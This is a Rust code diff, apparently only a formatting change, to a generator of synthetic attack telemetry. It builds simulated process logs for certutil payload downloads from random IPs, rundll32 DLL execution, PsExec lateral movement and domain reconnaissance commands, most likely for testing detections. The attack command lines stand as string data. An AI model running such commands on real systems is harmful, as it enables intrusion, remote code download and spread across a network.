@@ -139,8 +139,18 @@ fn episode(
                 let url = ip(rng);
                 let cmd = text(r"certutil.exe -urlcache -split -f http://", rng)
                     + &url
-                    + &text(r"/{pick:update|invoice|setup}.exe C:\Users\{user}\AppData\Local\Temp\{tmp}.exe", rng);
-                push(step(rng), host, user, r"C:\Windows\System32\certutil.exe", CMD, cmd);
+                    + &text(
+                        r"/{pick:update|invoice|setup}.exe C:\Users\{user}\AppData\Local\Temp\{tmp}.exe",
+                        rng,
+                    );
+                push(
+                    step(rng),
+                    host,
+                    user,
+                    r"C:\Windows\System32\certutil.exe",
+                    CMD,
+                    cmd,
+                );
             }
         }
         AttackKind::EncodedPowerShell => {
@@ -162,7 +172,14 @@ fn episode(
                     r"rundll32.exe C:\Users\{user}\AppData\Local\Temp\{tmp}.dll,{pick:DllRegisterServer|Start|#1|Control_RunDLL}",
                     rng,
                 );
-                push(step(rng), host, user, r"C:\Windows\System32\rundll32.exe", CMD, cmd);
+                push(
+                    step(rng),
+                    host,
+                    user,
+                    r"C:\Windows\System32\rundll32.exe",
+                    CMD,
+                    cmd,
+                );
             }
         }
         AttackKind::PsExecLateral => {
@@ -176,15 +193,41 @@ fn episode(
             let target_name = tenant.hosts[target].name.clone();
             if tenant.hosts[host].role == Role::Workstation {
                 let cmd = format!(r"PsExec.exe \\{target_name} -accepteula -s cmd.exe");
-                push(step(rng), host, user, r"C:\Users\Public\PsExec.exe", CMD, cmd);
+                push(
+                    step(rng),
+                    host,
+                    user,
+                    r"C:\Users\Public\PsExec.exe",
+                    CMD,
+                    cmd,
+                );
             }
             let svc = r"C:\Windows\PSEXESVC.exe";
-            push(step(rng), target, user, svc, r"C:\Windows\System32\services.exe", svc.into());
-            for cmd in ["whoami /all", "hostname", "net localgroup administrators", "tasklist /v"]
-                .iter()
-                .take(rng.random_range(1..=4))
+            push(
+                step(rng),
+                target,
+                user,
+                svc,
+                r"C:\Windows\System32\services.exe",
+                svc.into(),
+            );
+            for cmd in [
+                "whoami /all",
+                "hostname",
+                "net localgroup administrators",
+                "tasklist /v",
+            ]
+            .iter()
+            .take(rng.random_range(1..=4))
             {
-                push(step(rng), target, user, CMD, svc, format!("cmd.exe /c {cmd}"));
+                push(
+                    step(rng),
+                    target,
+                    user,
+                    CMD,
+                    svc,
+                    format!("cmd.exe /c {cmd}"),
+                );
             }
         }
         AttackKind::NtdsDump => {
@@ -236,9 +279,15 @@ fn episode(
             };
             let commands: &[(&str, &str)] = &[
                 (r"C:\Windows\System32\whoami.exe", "whoami /groups"),
-                (r"C:\Windows\System32\net.exe", r#"net group "Domain Admins" /domain"#),
+                (
+                    r"C:\Windows\System32\net.exe",
+                    r#"net group "Domain Admins" /domain"#,
+                ),
                 (r"C:\Windows\System32\net.exe", "net user /domain"),
-                (r"C:\Windows\System32\nltest.exe", "nltest /dclist:contoso.local"),
+                (
+                    r"C:\Windows\System32\nltest.exe",
+                    "nltest /dclist:contoso.local",
+                ),
                 (r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
                 (r"C:\Windows\System32\systeminfo.exe", "systeminfo"),
                 (r"C:\Windows\System32\tasklist.exe", "tasklist /svc"),
